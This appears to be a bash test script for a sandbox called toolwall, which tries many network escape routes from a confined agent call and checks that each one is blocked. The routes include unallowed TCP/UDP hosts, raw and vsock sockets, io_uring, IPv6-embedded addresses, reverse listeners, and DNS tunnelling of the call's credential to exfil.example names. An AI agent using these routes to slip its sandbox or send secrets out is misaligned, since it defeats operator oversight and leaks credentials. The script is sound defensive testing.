#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Escape suite, network class. A call of workspace:acme (or another context
# that lacks the target) tries every way out the SPEC closes: other hosts and
# ports over TCP, UDP (sendto, sendmsg, sendmmsg, connected), Fast Open,
# MPTCP, io_uring, raw/packet/ICMP/SCTP/netlink/vsock sockets, unix sockets,
# DNS to other resolvers and tunnelled names, IPv6 forms that embed an IPv4
# address (NAT64, 6to4, compat, Teredo, mapped), listening for a reverse
# channel, multicast joins, and sockets connected before a reload. A
# data-team victim call runs beside it throughout.
#
# Each attack is first run as the bare agent outside toolwall (it must
# escape there, or the attempt is skipped with what it got), then in a call
# (it must print BLOCKED), then its audit record and no leaked secret.
#
# Fixes pending on other branches (attempts tagged [needs: ...]):
#   listen   bind/listen hooks + ingress (bind only loopback unless `listen`)
#   ipv6     IPv6 forms: NAT64, 6to4, compat, Teredo judged as IPv6 hosts
#   mcast    refuse multicast joins (setsockopt hook or seccomp)
#   reload   a reload re-judges sockets connected under the old revision
# Everything else uses hooks that work today and must pass.
set -uo pipefail
HERE=$(cd "$(dirname "$0")" && pwd)
source "$HERE/lib.sh"

N="$ESC_PY $ESC_ATTACKS/net.py" # (words: no spaces in the path)
esc_setup

# Let every group create ping sockets, so that the bare agent can (and the
# refusal in a call is toolwall's, not the sysctl's). Host-wide: inside the
# host lock esc_setup took, restored at exit.
PING_RANGE=/proc/sys/net/ipv4/ping_group_range
old_ping=$(cat $PING_RANGE)
restore_ping() { echo "$old_ping" >$PING_RANGE; }
echo "0 2147483647" >$PING_RANGE
tw_at_exit restore_ping

# Another resolver on test hosts (10.50.1.10, fd00:50::10) and on the
# policy's upstream (198.51.100.53): answers everything with 192.0.2.99.
SINK_LOG=$TW_WORK/sink.log
SINK_PID=""
stop_sink() { [[ -n $SINK_PID ]] && kill "$SINK_PID" 2>/dev/null && wait "$SINK_PID" 2>/dev/null; SINK_PID=""; }
tw_at_exit stop_sink
touch "$SINK_LOG"
# (nsenter execs python: $! is the sink itself. It must not hold our host
# lock, and it ends by itself should this script die.)
nsenter --net="$TW_NETNS_PATH" -- /usr/bin/python3 "$ESC_ATTACKS/dnssink.py" \
	--parent-pid $$ "$SINK_LOG" "$TW_WORK/sink.ready" 10.50.1.10 198.51.100.53 \
	fd00:50::10 >"$TW_WORK/sink.out" 2>&1 </dev/null {TW_LOCK_FD}>&- &
SINK_PID=$!
tw_eventually test -e "$TW_WORK/sink.ready" || not_ok "dns sink starts" "$(cat "$TW_WORK/sink.out")"

# IPv6 addresses that embed the allowed IPv4 host 10.20.1.10 (a14:10a), on
# the test host, routed from the host: reachable, so only toolwall's verdict
# stands between a call and them.
NAT64=64:ff9b::a14:10a
SIXTOFOUR=2002:a14:10a::1
COMPAT=::a14:10a
TEREDO=2001:0:c000:201:0:f227:f5eb:fef5 # client ~10.20.1.10, server 192.0.2.1
for a in $NAT64 $SIXTOFOUR $COMPAT $TEREDO; do
	ip -n "$TW_NETNS" addr add "$a/128" dev "$TW_NS_VETH" nodad 2>/dev/null
	ip -6 route add "$a/128" dev "$TW_VETH" 2>/dev/null
done
# (both go with the namespace and the veth at exit)

esc_victim_start || { tap_summary; exit 1; }
WS=$ESC_WS

# ---- TCP and UDP to hosts and ports the context lacks ------------------------
esc "tcp to the warehouse (data-team's) from the workspace" $WS \
	"action=connect;proto=tcp;dst=10.30.1.10;port=5439;hint~warehouse-read" -- $N tcp 10.30.1.10 5439
esc "tcp to the warehouse from #general" $ESC_GEN \
	"action=connect;dst=10.30.1.10;port=5439;hint~channel:acme/data-team" -- $N tcp 10.30.1.10 5439
esc "tcp to a host no policy names" $WS \
	"action=connect;proto=tcp;dst=10.50.1.10;port=80" -- $N tcp 10.50.1.10 80
esc "tcp to an allowed host on another port" $WS \
	"action=connect;dst=10.20.1.10;port=9000" -- $N tcp 10.20.1.10 9000
esc "tcp over IPv6 to a host no policy names" $WS \
	"action=connect;dst=fd00:50::10;port=80" -- $N tcp fd00:50::10 80
esc "tcp to the warehouse as IPv4-mapped IPv6" $WS \
	"action=connect;dst=10.30.1.10;port=5439" -- $N tcp ::ffff:10.30.1.10 5439
esc "udp sendto a host no policy names" $WS \
	"action=sendmsg;proto=udp;dst=10.50.1.10;port=9999" -- $N udp 10.50.1.10 9999
esc "udp sendto IPv4-mapped" $WS \
	"action=sendmsg;proto=udp;dst=10.50.1.10;port=9999" -- $N udp ::ffff:10.50.1.10 9999
esc "udp sendto over IPv6" $WS \
	"action=sendmsg;proto=udp;dst=fd00:50::10;port=9999" -- $N udp fd00:50::10 9999
esc "udp sendmsg (two iovecs)" $WS \
	"action=sendmsg;dst=10.50.1.10;port=9999" -- $N udp-sendmsg 10.50.1.10 9999
esc "udp sendmmsg" $WS \
	"action=sendmsg;dst=10.50.1.10;port=9999" -- $N sendmmsg 10.50.1.10 9999
esc "connected udp" $WS \
	"action=connect;proto=udp;dst=10.50.1.10;port=9999" -- $N udp-connect 10.50.1.10 9999
esc "tcp fast open (MSG_FASTOPEN)" $WS \
	"action=connect;dst=10.50.1.10;port=80" -- $N tfo 10.50.1.10 80
esc "tcp fast open (TCP_FASTOPEN_CONNECT)" $WS \
	"action=connect;dst=10.50.1.10;port=80" -- $N tfo-connect 10.50.1.10 80
esc "MPTCP to a host no policy names" $WS \
	"action=socket;reason~MPTCP" -- $N mptcp 10.50.1.10 80
esc "io_uring (ops that skip socket()'s filter)" $WS \
	"action=io_uring_setup;syscall=io_uring_setup;errno=EPERM" -- $N io_uring

# ---- other socket families ----------------------------------------------------
esc "raw socket through a user namespace of its own" $WS \
	"action=unshare;syscall=unshare;errno=EPERM" -- $N unshare-raw
ESC_NOBARE="needs CAP_NET_RAW, which no agent account holds; the hook itself is proven as root in test_enforce" \
	esc "raw IPv4 socket" $WS - -- $N raw 4
ESC_NOBARE="needs CAP_NET_RAW, which no agent account holds" \
	esc "raw IPv6 socket" $WS - -- $N raw 6
esc "ICMP echo (ping socket) to a host no policy names" $WS \
	"action=socket;reason~ICMP" -- $N ping 10.50.1.10
esc "ICMPv6 echo (ping socket)" $WS \
	"action=socket" -- $N ping fd00:50::10
ESC_BARE_WRAP="unshare -Urn" \
	esc "AF_PACKET socket (bare: with CAP_NET_RAW of its own userns)" $WS \
	"action=socket;syscall=socket;errno=EPERM" -- $N packet
esc "AF_NETLINK route socket" $WS \
	"action=socket;syscall=socket;errno=EPERM" -- $N netlink
esc "AF_VSOCK socket (the hypervisor channel; created, never connected)" $WS \
	"action=socket;syscall=socket;errno=EPERM" -- $N vsock
esc "SCTP association" $WS \
	"action=socket;reason~SCTP" -- $N sctp 10.50.1.10 80
esc "unix socket no bundle grants" $WS \
	"action=connect;proto=unix;path=$TW_DEMO_RUN/other.sock" -- $N unix "$TW_DEMO_RUN/other.sock"
tw_unix_server "@twesc-$$"
esc "abstract unix socket" $WS \
	"action=connect;proto=unix;path=@twesc-$$" -- $N unix "@twesc-$$"

# ---- DNS ------------------------------------------------------------------------
esc "DNS to another resolver (udp)" $WS \
	"action=dns;domain=other-udp.exfil.example" -- $N dns-udp 10.50.1.10 other-udp.exfil.example
esc "DNS to another resolver (tcp)" $WS \
	"action=dns;domain=other-tcp.exfil.example;proto=tcp" -- $N dns-tcp 10.50.1.10 other-tcp.exfil.example
esc "DNS to another resolver over IPv6" $WS \
	"action=dns;domain=other-v6.exfil.example" -- $N dns-udp fd00:50::10 other-v6.exfil.example
esc "DNS to another resolver as IPv4-mapped" $WS \
	"action=dns;domain=other-mapped.exfil.example" -- $N dns-udp ::ffff:10.50.1.10 other-mapped.exfil.example
esc "DNS straight to the policy's upstream, a name no bundle allows" $WS \
	"action=dns;domain=direct.exfil.example" -- $N dns-udp 198.51.100.53 direct.exfil.example
esc "DNS tunnelling: the call's own credential in query names" $WS \
	"action=dns;domain~.t.exfil.example" -- $N dns-tunnel 198.51.100.53
# The bare runs' queries reach the sink once each (the proof it listens); a
# second copy of a name, or the call's token, would be a call's query.
tok_hex=$(printf '%s' "$TW_SECRET_TRACKER" | od -An -tx1 | tr -d ' \n' | cut -c1-60)
dups=$(sort "$SINK_LOG" | uniq -d | head -3 | tr '\n' ' ')
if [[ -z $dups ]] && ! grep -qF "$tok_hex" "$SINK_LOG" && [[ -s $SINK_LOG ]]; then
	ok "no query of a call reached an outside resolver ($(grep -c . "$SINK_LOG") bare queries did)"
else
	not_ok "no query of a call reached an outside resolver" "seen twice: $dups"
fi

# ---- IPv6 forms that embed an allowed IPv4 host (10.20.1.10:5432) -------------
ESC_FIX=ipv6 esc "tcp to NAT64 64:ff9b::10.20.1.10" $WS \
	"action=connect;proto=tcp;port=5432;dst~64:ff9b::" -- $N tcp $NAT64 5432
ESC_FIX=ipv6 esc "tcp to 6to4 2002:a14:10a::1" $WS \
	"action=connect;proto=tcp;port=5432;dst~2002:a14:10a" -- $N tcp $SIXTOFOUR 5432
ESC_FIX=ipv6 esc "tcp to IPv4-compatible ::10.20.1.10" $WS \
	"action=connect;proto=tcp;port=5432" -- $N tcp $COMPAT 5432
ESC_FIX=ipv6 esc "tcp to Teredo (client 10.20.1.10)" $WS \
	"action=connect;proto=tcp;port=5432;dst~2001:0:c000:201" -- $N tcp $TEREDO 5432

# ---- inbound: a reverse channel -------------------------------------------------
ESC_FIX=listen esc "listen on every IPv4 address" $WS \
	"action=bind" -- $N listen 0.0.0.0 18080
ESC_FIX=listen esc "listen on every IPv6 address" $WS \
	"action=bind" -- $N listen :: 18081
ESC_FIX=listen esc "listen on the host's test-net address" $WS \
	"action=bind" -- $N listen 10.50.0.1 18082
ESC_FIX=listen esc "udp bind on every address" $WS \
	"action=bind;proto=udp" -- $N udp-bind 0.0.0.0 18083

# ---- multicast: membership reports leave without a socket of the call -----------
ESC_FIX=mcast esc "IPv4 multicast join (IGMP report)" $WS \
	"action~" -- $N mcast 239.7.7.7 10.50.0.1
ESC_FIX=mcast esc "IPv6 multicast join (MLD report)" $WS \
	"action~" -- $N mcast6 ff15::7:7 "$(cat /sys/class/net/$TW_VETH/ifindex)"

# ---- a socket connected under the old revision, after a reload -------------------
# The call connects while the policy allows it, the policy loses the rule,
# `toolwall reload`, then the call sends on the old socket.
held()
{
	local name="$1 [needs: reload]" kind=$2 host=$3 port=$4 rule=$5 id b out
	local ready=$TW_WORK/shared/held.ready go=$TW_WORK/shared/held.go
	local bundle=$TW_POLICY/bundles/issue-tracker.json
	rm -f "$ready" "$go"
	touch "$go"
	b=$(esc_bare $N hold "$kind" "$host" "$port" "$ready" "$go")
	rm -f "$ready" "$go"
	if [[ $b != ESCAPED* ]]; then
		skip "$name" "the bare agent cannot do it either (got '$b')"
		return
	fi
	ESC_N=$((ESC_N + 1))
	ESC_ID=esc-$$-$ESC_N
	twx $WS "$ESC_ID" $N hold "$kind" "$host" "$port" "$ready" "$go" \
		>"$TW_WORK/esc.out.$ESC_N" 2>"$TW_WORK/esc.err.$ESC_N" &
	local lpid=$!
	tw_eventually test -e "$ready"
	cp "$bundle" "$TW_WORK/bundle.saved"
	grep -vF "\"$rule\"," "$TW_WORK/bundle.saved" >"$bundle"
	"$TW_BIN" reload >"$TW_WORK/reload.out" 2>&1 || not_ok "$name: reload" "$(cat "$TW_WORK/reload.out")"
	touch "$go"
	wait "$lpid"
	cp "$TW_WORK/bundle.saved" "$bundle"
	"$TW_BIN" reload >/dev/null 2>&1
	out=$(head -1 "$TW_WORK/esc.out.$ESC_N")
	if [[ $out == BLOCKED* ]]; then
		ok "$name"
	else
		not_ok "$name" "got '$out'; stderr: $(head -3 "$TW_WORK/esc.err.$ESC_N" | tr '\n' ' ')"
	fi
	record "$name" event=deny context=$WS dst="$host" port="$port"
	no_secret "$name"
}
held "connected udp, its rule removed by a reload" udp 10.20.1.10 123 "udp://10.20.1.10:123"
held "tcp connection, its rule removed by a reload" tcp 10.20.1.10 5432 "10.20.0.0/16:5432"

esc_victim_alive && ok "the victim call ran through every attempt" || not_ok "victim alive"
tap_summary
